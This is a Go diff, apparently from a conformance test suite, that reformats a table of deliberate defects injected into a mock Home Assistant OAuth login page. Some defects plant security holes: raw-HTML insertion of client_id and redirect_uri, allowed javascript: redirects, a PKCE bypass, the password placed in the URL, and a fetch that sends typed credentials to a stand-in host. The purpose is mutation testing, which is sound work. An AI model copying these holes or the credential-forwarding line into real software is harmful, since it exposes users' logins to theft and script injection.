@@ -45,20 +45,31 @@ var loginPageDefects = []Defect[mockserver.Policy]{
 	},
 	{
 		ID: "login.wrong-ends", Story: "A wrong password ends the flow instead of asking again.",
-		Aims:   []string{"ha.page.wrong-password", "ha.flow.wrong-password"},
-		Change: answers(steps(func(m map[string]any) bool { s, _ := m["password"].(string); return strings.HasPrefix(s, "wrong-") }), member("type", "abort"), 200),
+		Aims: []string{"ha.page.wrong-password", "ha.flow.wrong-password"},
+		Change: answers(steps(func(m map[string]any) bool {
+			s, _ := m["password"].(string)
+			return strings.HasPrefix(s, "wrong-")
+		}), member("type", "abort"), 200),
 	},
 	{
 		ID: "login.wrong-sticks", Story: "After a wrong password the right one is refused as well.",
 		Aims: []string{"ha.page.wrong-password", "ha.mfa.right-code", "ha.mfa.wrong-code"},
 		Change: func(p *mockserver.Policy) {
-			answers(flowStep.and(repeatedFlow()), ok(`{"type":"form","flow_id":"x","step_id":"init","errors":{"base":"invalid_auth"},"handler":["homeassistant",null],"data_schema":[{"type":"string","name":"username","required":true},{"type":"string","name":"password","required":true}]}`), 200)(p)
+			answers(
+				flowStep.and(repeatedFlow()),
+				ok(`{"type":"form","flow_id":"x","step_id":"init","errors":{"base":"invalid_auth"},"handler":["homeassistant",null],"data_schema":[{"type":"string","name":"username","required":true},{"type":"string","name":"password","required":true}]}`),
+				200,
+			)(p)
 		},
 	},
 	{
 		ID: "login.mouse-only", Story: "The form is sent by a press on the button only.",
-		Aims:   []string{"ha.page.keyboard"},
-		Change: reworded("authorize.js", `h("button", { type: "submit" }`, `h("button", { type: "button", click: (e) => e.currentTarget.form.requestSubmit() }`),
+		Aims: []string{"ha.page.keyboard"},
+		Change: reworded(
+			"authorize.js",
+			`h("button", { type: "submit" }`,
+			`h("button", { type: "button", click: (e) => e.currentTarget.form.requestSubmit() }`,
+		),
 	},
 	{
 		ID: "login.state-raw", Story: "state goes back as it was read, without being escaped again.",
@@ -107,13 +118,21 @@ var loginPageDefects = []Defect[mockserver.Policy]{
 	},
 	{
 		ID: "login.unknown-refused", Story: "A parameter that the page does not know is refused.",
-		Aims:   []string{"oauth2.authz.ignore-unknown"},
-		Change: reworded("request.js", `const clientId = query.get("client_id");`, `const clientId = query.has("foo") ? "" : query.get("client_id");`),
+		Aims: []string{"oauth2.authz.ignore-unknown"},
+		Change: reworded(
+			"request.js",
+			`const clientId = query.get("client_id");`,
+			`const clientId = query.has("foo") ? "" : query.get("client_id");`,
+		),
 	},
 	{
 		ID: "login.response-type-needed", Story: "Without response_type the page refuses, which the home's documents leave out.",
-		Aims:   []string{"ha.authorize.no-response-type"},
-		Change: reworded("request.js", `const clientId = query.get("client_id");`, `const clientId = query.has("response_type") ? query.get("client_id") : "";`),
+		Aims: []string{"ha.authorize.no-response-type"},
+		Change: reworded(
+			"request.js",
+			`const clientId = query.get("client_id");`,
+			`const clientId = query.has("response_type") ? query.get("client_id") : "";`,
+		),
 	},
 	{
 		ID: "login.unknown-sent-back", Story: "A parameter that the page does not know sends the person back with an error, after the login.",
@@ -132,8 +151,16 @@ var loginPageDefects = []Defect[mockserver.Policy]{
 	},
 	{
 		ID: "login.implicit", Story: "response_type=token gets a token in the redirect.",
-		Aims:   []string{"oauth2.authz.response-type-other", "ha.flow.response-type"},
-		Change: both(takes(begins(func(m map[string]any) bool { return m["response_type"] == "token" }), withObject(func(m map[string]any) { m["response_type"] = "code" })), reworded("request.js", "if (keep && request.own)", `if (new URLSearchParams(location.search).get("response_type") === "token") added.push("access_token=x"); if (keep && request.own)`)),
+		Aims: []string{"oauth2.authz.response-type-other", "ha.flow.response-type"},
+		Change: both(takes(begins(func(m map[string]any) bool {
+			return m["response_type"] == "token"
+		}), withObject(func(m map[string]any) {
+			m["response_type"] = "code"
+		})), reworded(
+			"request.js",
+			"if (keep && request.own)",
+			`if (new URLSearchParams(location.search).get("response_type") === "token") added.push("access_token=x"); if (keep && request.own)`,
+		)),
 	},
 	{
 		ID: "login.no-second-factor", Story: "The page shows nothing for the second factor.",
@@ -152,8 +179,12 @@ var loginPageDefects = []Defect[mockserver.Policy]{
 	},
 	{
 		ID: "login.app-as-path", Story: "An app's redirect loses its scheme's host.",
-		Aims:   []string{"ha.page.app-scheme"},
-		Change: reworded("request.js", "return base + joint", `return base.replace("homeassistant://auth-callback", "homeassistant://other") + joint`),
+		Aims: []string{"ha.page.app-scheme"},
+		Change: reworded(
+			"request.js",
+			"return base + joint",
+			`return base.replace("homeassistant://auth-callback", "homeassistant://other") + joint`,
+		),
 	},
 	{
 		ID: "login.stores-foreign", Story: "A foreign client is told to store the token, as the home's own page is.",
@@ -167,13 +198,19 @@ var loginPageDefects = []Defect[mockserver.Policy]{
 	},
 	{
 		ID: "login.challenge-folded", Story: "The page passes the challenge on in lower case.",
-		Aims:   []string{"ha.page.pkce"},
-		Change: reworded("request.js", ".map((name) => [name, query.get(name)])", `.map((name) => [name, name === "code_challenge" ? query.get(name).toLowerCase() : query.get(name)])`),
+		Aims: []string{"ha.page.pkce"},
+		Change: reworded(
+			"request.js",
+			".map((name) => [name, query.get(name)])",
+			`.map((name) => [name, name === "code_challenge" ? query.get(name).toLowerCase() : query.get(name)])`,
+		),
 	},
 	{
 		ID: "login.challenge-optional", Story: "A code that was asked for with a challenge works without its verifier.",
-		Aims:   []string{"ha.page.pkce"},
-		Change: answers(codeGrant.and(func(r mock.Request) bool { return !has("code_verifier")(r) }), ok(`{"access_token":"a.b.c","token_type":"Bearer","expires_in":1800,"refresh_token":"x"}`), 400),
+		Aims: []string{"ha.page.pkce"},
+		Change: answers(codeGrant.and(func(r mock.Request) bool {
+			return !has("code_verifier")(r)
+		}), ok(`{"access_token":"a.b.c","token_type":"Bearer","expires_in":1800,"refresh_token":"x"}`), 400),
 	},
 	{
 		ID: "login.error-redirect", Story: "An error is sent to the redirect URI, which was just refused.",
@@ -182,33 +219,55 @@ var loginPageDefects = []Defect[mockserver.Policy]{
 	},
 	{
 		ID: "login.default-redirect", Story: "Without a redirect_uri the client id is gone to.",
-		Aims:   []string{"oauth2.redirect.missing-uri"},
-		Change: reworded("request.js", `const redirectUri = query.get("redirect_uri");`, `const redirectUri = query.get("redirect_uri") || query.get("client_id") + "callback";`),
+		Aims: []string{"oauth2.redirect.missing-uri"},
+		Change: reworded(
+			"request.js",
+			`const redirectUri = query.get("redirect_uri");`,
+			`const redirectUri = query.get("redirect_uri") || query.get("client_id") + "callback";`,
+		),
 	},
 	{
 		ID: "login.relative-redirect", Story: "A relative redirect_uri is resolved against the client id.",
-		Aims:   []string{"oauth2.redirect.missing-uri"},
-		Change: reworded("request.js", `const redirectUri = query.get("redirect_uri");`, `const given = query.get("redirect_uri"); const redirectUri = given && new URL(given, clientId).href;`),
+		Aims: []string{"oauth2.redirect.missing-uri"},
+		Change: reworded(
+			"request.js",
+			`const redirectUri = query.get("redirect_uri");`,
+			`const given = query.get("redirect_uri"); const redirectUri = given && new URL(given, clientId).href;`,
+		),
 	},
 	{
 		ID: "login.default-client", Story: "Without a client_id the redirect's own site is the client.",
-		Aims:   []string{"oauth2.redirect.no-redirect-on-bad-client"},
-		Change: reworded("request.js", `const clientId = query.get("client_id");`, `const clientId = query.get("client_id") || new URL(query.get("redirect_uri")).origin + "/";`),
+		Aims: []string{"oauth2.redirect.no-redirect-on-bad-client"},
+		Change: reworded(
+			"request.js",
+			`const clientId = query.get("client_id");`,
+			`const clientId = query.get("client_id") || new URL(query.get("redirect_uri")).origin + "/";`,
+		),
 	},
 	{
 		ID: "login.mended-client", Story: "A client id that is none is replaced by the redirect's site.",
-		Aims:   []string{"oauth2.redirect.no-redirect-on-bad-client"},
-		Change: reworded("request.js", `const clientId = query.get("client_id");`, `let clientId = query.get("client_id"); if (clientId && !/^https?:[^#]*$/.test(clientId)) clientId = new URL(query.get("redirect_uri")).origin + "/";`),
+		Aims: []string{"oauth2.redirect.no-redirect-on-bad-client"},
+		Change: reworded(
+			"request.js",
+			`const clientId = query.get("client_id");`,
+			`let clientId = query.get("client_id"); if (clientId && !/^https?:[^#]*$/.test(clientId)) clientId = new URL(query.get("redirect_uri")).origin + "/";`,
+		),
 	},
 	{
 		ID: "login.mute", Story: "A refusal shows an empty page.",
-		Aims:   []string{"oauth2.redirect.inform-user"},
-		Change: reworded("authorize.js", failedHead, "const failed = () => show(\"Error\", h(\"login-alert\", { class: \"alert\", role: \"alert\" }, \" \"));"),
+		Aims: []string{"oauth2.redirect.inform-user"},
+		Change: reworded(
+			"authorize.js",
+			failedHead,
+			"const failed = () => show(\"Error\", h(\"login-alert\", { class: \"alert\", role: \"alert\" }, \" \"));",
+		),
 	},
 	{
 		ID: "login.script-redirect", Story: "A script URL that the client lists is gone to.",
-		Aims:   []string{"oauth2.redirect.dangerous-schemes", "oauth2.redirect.script-listed-server"},
-		Change: both(letsNear(func(l, r string) bool { return l == r }), unpoliced, edits(edit{"request.js", "if (dangerous.has(scheme))", `if (dangerous.has(scheme) && scheme !== "javascript:")`})),
+		Aims: []string{"oauth2.redirect.dangerous-schemes", "oauth2.redirect.script-listed-server"},
+		Change: both(letsNear(func(l, r string) bool {
+			return l == r
+		}), unpoliced, edits(edit{"request.js", "if (dangerous.has(scheme))", `if (dangerous.has(scheme) && scheme !== "javascript:")`})),
 	},
 	{
 		ID: "login.last-of-two", Story: "Of two equal parameters one is taken.",
@@ -217,13 +276,20 @@ var loginPageDefects = []Defect[mockserver.Policy]{
 	},
 	{
 		ID: "login.checked-first-used-last", Story: "Of two redirect URIs the first is judged and the last is gone to.",
-		Aims:   []string{"oauth2.authz.no-duplicates", "oauth2.authz.duplicates-safe"},
-		Change: edits(edit{"request.js", "if (all.length > 1)", "if (false)"}, edit{"request.js", `request.redirectUri.split("#")`, `new URLSearchParams(location.search).getAll("redirect_uri").at(-1).split("#")`}),
+		Aims: []string{"oauth2.authz.no-duplicates", "oauth2.authz.duplicates-safe"},
+		Change: edits(
+			edit{"request.js", "if (all.length > 1)", "if (false)"},
+			edit{"request.js", `request.redirectUri.split("#")`, `new URLSearchParams(location.search).getAll("redirect_uri").at(-1).split("#")`},
+		),
 	},
 	{
 		ID: "login.checked-last-used-first", Story: "Of two redirect URIs the last is judged and the first is gone to.",
-		Aims:   []string{"oauth2.authz.no-duplicates", "oauth2.authz.duplicates-safe"},
-		Change: edits(edit{"request.js", "if (all.length > 1)", "if (false)"}, edit{"request.js", `const redirectUri = query.get("redirect_uri");`, `const redirectUri = query.getAll("redirect_uri").at(-1);`}, edit{"request.js", `request.redirectUri.split("#")`, `new URLSearchParams(location.search).get("redirect_uri").split("#")`}),
+		Aims: []string{"oauth2.authz.no-duplicates", "oauth2.authz.duplicates-safe"},
+		Change: edits(
+			edit{"request.js", "if (all.length > 1)", "if (false)"},
+			edit{"request.js", `const redirectUri = query.get("redirect_uri");`, `const redirectUri = query.getAll("redirect_uri").at(-1);`},
+			edit{"request.js", `request.redirectUri.split("#")`, `new URLSearchParams(location.search).get("redirect_uri").split("#")`},
+		),
 	},
 	{
 		ID: "login.client-unnamed", Story: "A foreign client is not named.",
@@ -232,8 +298,12 @@ var loginPageDefects = []Defect[mockserver.Policy]{
 	},
 	{
 		ID: "login.client-calls-itself", Story: "The page names the client as the redirect's scheme does.",
-		Aims:   []string{"indieauth.authz.prompt-client-id"},
-		Change: edits(edit{"authorize.js", "client?.hostname || request.clientId", `"An app"`}, edit{"authorize.js", "client?.href ?? request.clientId", `"an app"`}, edit{"authorize.js", "web ? to.origin + to.pathname", `web ? "its site"`}),
+		Aims: []string{"indieauth.authz.prompt-client-id"},
+		Change: edits(
+			edit{"authorize.js", "client?.hostname || request.clientId", `"An app"`},
+			edit{"authorize.js", "client?.href ?? request.clientId", `"an app"`},
+			edit{"authorize.js", "web ? to.origin + to.pathname", `web ? "its site"`},
+		),
 	},
 	{
 		ID: "login.framed", Story: "The login page may be framed.",
@@ -242,18 +312,32 @@ var loginPageDefects = []Defect[mockserver.Policy]{
 	},
 	{
 		ID: "login.password-in-query", Story: "The password is sent in the query as well.",
-		Aims:   []string{"ha.page.no-password-in-url"},
-		Change: reworded("flow.js", "call(\"POST\", `/auth/login_flow/${encodeURIComponent(flowId)}`, {", "call(\"POST\", `/auth/login_flow/${encodeURIComponent(flowId)}?p=${encodeURIComponent(fields.password ?? \"\")}`, {"),
+		Aims: []string{"ha.page.no-password-in-url"},
+		Change: reworded(
+			"flow.js",
+			"call(\"POST\", `/auth/login_flow/${encodeURIComponent(flowId)}`, {",
+			"call(\"POST\", `/auth/login_flow/${encodeURIComponent(flowId)}?p=${encodeURIComponent(fields.password ?? \"\")}`, {",
+		),
 	},
 	{
 		ID: "login.password-elsewhere", Story: "What is typed is sent to another site as well.",
-		Aims:   []string{"ha.page.no-password-in-url", "ha.page.own-origin"},
-		Change: both(unpoliced, edits(edit{"flow.js", "async function call(method, path, body) {", `async function call(method, path, body) { if (body) fetch("http://127.0.0.1:1/", { method: "POST", body: JSON.stringify(body), mode: "no-cors" }).catch(() => {});`})),
+		Aims: []string{"ha.page.no-password-in-url", "ha.page.own-origin"},
+		Change: both(
+			unpoliced,
+			edits(edit{
+				"flow.js",
+				"async function call(method, path, body) {",
+				`async function call(method, path, body) { if (body) fetch("http://127.0.0.1:1/", { method: "POST", body: JSON.stringify(body), mode: "no-cors" }).catch(() => {});`,
+			}),
+		),
 	},
 	{
 		ID: "login.referer", Story: "The callback learns the whole address of the login page.",
-		Aims:   []string{"ha.headers.referrer", "ha.page.no-referer"},
-		Change: both(answers(at("GET /auth/authorize"), header("Referrer-Policy", "unsafe-url")), edits(edit{"authorize.html", `<meta name="referrer" content="no-referrer" />`, `<meta name="referrer" content="unsafe-url" />`})),
+		Aims: []string{"ha.headers.referrer", "ha.page.no-referer"},
+		Change: both(
+			answers(at("GET /auth/authorize"), header("Referrer-Policy", "unsafe-url")),
+			edits(edit{"authorize.html", `<meta name="referrer" content="no-referrer" />`, `<meta name="referrer" content="unsafe-url" />`}),
+		),
 	},
 	{
 		ID: "login.foreign-picture", Story: "The page loads a picture from elsewhere.",
@@ -262,13 +346,19 @@ var loginPageDefects = []Defect[mockserver.Policy]{
 	},
 	{
 		ID: "login.client-as-markup", Story: "The client id is put into the page as markup.",
-		Aims:   []string{"ha.page.input-not-run"},
-		Change: both(unpoliced, more(`document.body.insertAdjacentHTML("beforeend", new URLSearchParams(location.search).get("client_id") ?? "");`)),
+		Aims: []string{"ha.page.input-not-run"},
+		Change: both(
+			unpoliced,
+			more(`document.body.insertAdjacentHTML("beforeend", new URLSearchParams(location.search).get("client_id") ?? "");`),
+		),
 	},
 	{
 		ID: "login.redirect-as-markup", Story: "The redirect URI is put into the page as markup.",
-		Aims:   []string{"ha.page.input-not-run"},
-		Change: both(unpoliced, more(`document.body.insertAdjacentHTML("beforeend", new URLSearchParams(location.search).get("redirect_uri") ?? "");`)),
+		Aims: []string{"ha.page.input-not-run"},
+		Change: both(
+			unpoliced,
+			more(`document.body.insertAdjacentHTML("beforeend", new URLSearchParams(location.search).get("redirect_uri") ?? "");`),
+		),
 	},
 	{
 		ID: "login.state-as-markup", Story: "The state is put into the page as markup.",
@@ -299,5 +389,9 @@ var loginPageDefects = []Defect[mockserver.Policy]{
 
 // codeless sends people of some requests back without their code.
 func codeless(where string) change {
-	return reworded("request.js", "const added = [`code=${encodeURIComponent(code)}`];", "const added = [new URLSearchParams(location.search)."+where+" ? \"error=invalid_request\" : `code=${encodeURIComponent(code)}`];")
+	return reworded(
+		"request.js",
+		"const added = [`code=${encodeURIComponent(code)}`];",
+		"const added = [new URLSearchParams(location.search)."+where+" ? \"error=invalid_request\" : `code=${encodeURIComponent(code)}`];",
+	)
 }
